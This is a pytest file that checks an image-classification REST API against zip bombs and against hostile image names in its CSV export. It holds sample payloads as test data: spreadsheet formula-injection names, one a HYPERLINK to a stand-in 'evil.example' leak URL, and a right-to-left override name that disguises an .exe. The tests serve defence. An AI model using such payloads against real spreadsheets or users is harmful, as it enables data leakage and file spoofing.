"""Zip bombs and hostile image names through the REST API, the way a user meets them: a zip
uploaded to ``POST /api/v1/jobs``, results downloaded with ``?format=csv`` and opened in a
spreadsheet.
"""

from __future__ import annotations

import csv
import io
import os
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from api import create_app
from api.extensions import services
from face_emotions.jobs import result_writes
from face_emotions.jobs.schema import Image
from face_emotions.jobs.schema import Job
from face_emotions.settings import Settings
from tests.contract import CSV_HEADER
from tests.unit.test_api import FakeQueue
from tests.unit.test_api import api_settings
from tests.unit.test_api import authed_client
from tests.unit.test_api import png
from tests.unit.test_api import stored_files
from tests.zip_archives import lying_zip
from tests.zip_archives import overlapping_zip

#: Every Unicode bidi control (marks, embeddings, overrides, isolates), spelled out here.
BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
#: Zip entry names a spreadsheet would run as formulas, and one spoofed by a bidi override.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak","open me").png',
    "+1.png",
    "-2+3.png",
    "@SUM(1+1).png",
    "\t=1+1.png",
    "\r=1+1.png",
    "\u202egnp.exe.png",
    "ok.png",
]


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    # 8 MiB uploads: a zip may inflate to 32 MiB, more than the 20 MB the bomb below lists.
    return api_settings(tmp_path, max_upload_mb=8)


@pytest.fixture
def app(settings: Settings) -> Flask:
    return create_app(settings, broker=FakeQueue(), registry_factory=lambda: None)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return authed_client(app)


def post_zip(client: FlaskClient, archive: io.BytesIO):
    return client.post(
        "/api/v1/jobs",
        data={"files": [(archive, "faces.zip")]},
        content_type="multipart/form-data",
    )


def jobs(app: Flask) -> list[Job]:
    with app.app_context(), services().sessions() as session:
        return list(session.scalars(select(Job)))


@pytest.mark.parametrize(
    "archive",
    [
        pytest.param(
            lambda: overlapping_zip(os.urandom(2_000) + b"\x00" * 98_000, 200), id="overlap"
        ),
        pytest.param(
            lambda: lying_zip(os.urandom(100) + b"\x00" * (8 * 1024 * 1024), 100, honest=2),
            id="declared size lies",
        ),
    ],
)
def test_zip_bombs_are_refused_with_400_and_nothing_stored(
    app: Flask, client: FlaskClient, settings: Settings, archive: Callable[[], io.BytesIO]
) -> None:
    response = post_zip(client, archive())
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    body = response.get_json()
    assert set(body) == {"error"} and body["error"]["code"] == "unsafe_zip"
    assert "overlap" in body["error"]["message"] or "declared size" in body["error"]["message"]
    assert stored_files(settings) == []
    assert jobs(app) == []


def finish_with_results(app: Flask, job_id: str) -> None:
    """A worker's results: every image classified, but ``ok.png`` failed with an error text
    that would be a formula too."""
    with app.app_context(), services().sessions() as session:
        images = session.scalars(
            select(Image).where(Image.job_id == uuid.UUID(job_id)).order_by(Image.position)
        ).all()
        rows = [
            result_writes.ResultRow(image_id=image.id, error="-cannot decode; @see logs")
            if image.path == "ok.png"
            else result_writes.ResultRow(image_id=image.id, probabilities=[0.6, 0.1, 0.1, 0.1, 0.1])
            for image in images
        ]
        result_writes.start_chunk(session, uuid.UUID(job_id))
        result_writes.record_results(session, uuid.UUID(job_id), rows, model_version=3, worker="w")
        session.commit()


def test_csv_export_cells_never_run_as_formulas(app: Flask, client: FlaskClient) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in HOSTILE_NAMES:
            archive.writestr(name, png())
    buffer.seek(0)
    response = post_zip(client, buffer)
    assert response.status_code == 202, response.get_json()
    job_id = response.get_json()["id"]
    finish_with_results(app, job_id)

    # Stored (and shown) names keep what the client sent, without bidi controls.
    items = client.get(f"/api/v1/jobs/{job_id}/results?limit=100").get_json()["items"]
    paths = [item["image_path"] for item in items]
    assert paths == [name.replace("\u202e", "") for name in HOSTILE_NAMES]
    assert not any(char in path for path in paths for char in BIDI_CONTROLS)

    download = client.get(f"/api/v1/jobs/{job_id}/results?format=csv")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(download.get_data(as_text=True), newline="")))
    assert rows[0] == CSV_HEADER
    records = [dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]]
    # Every cell a spreadsheet would evaluate starts with an apostrophe instead, and no cell
    # anywhere in the file starts with a formula character.
    assert [r["image_path"] for r in records] == [
        "'" + path if path.startswith(("=", "+", "-", "@", "\t", "\r")) else path for path in paths
    ]
    assert records[-1]["error"] == "'-cannot decode; @see logs"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    # JSON Lines is data for programs, not a spreadsheet: its names are left as they are.
    jsonl = client.get(f"/api/v1/jobs/{job_id}/results?format=jsonl").get_data(as_text=True)
    assert '"=HYPERLINK(' in jsonl
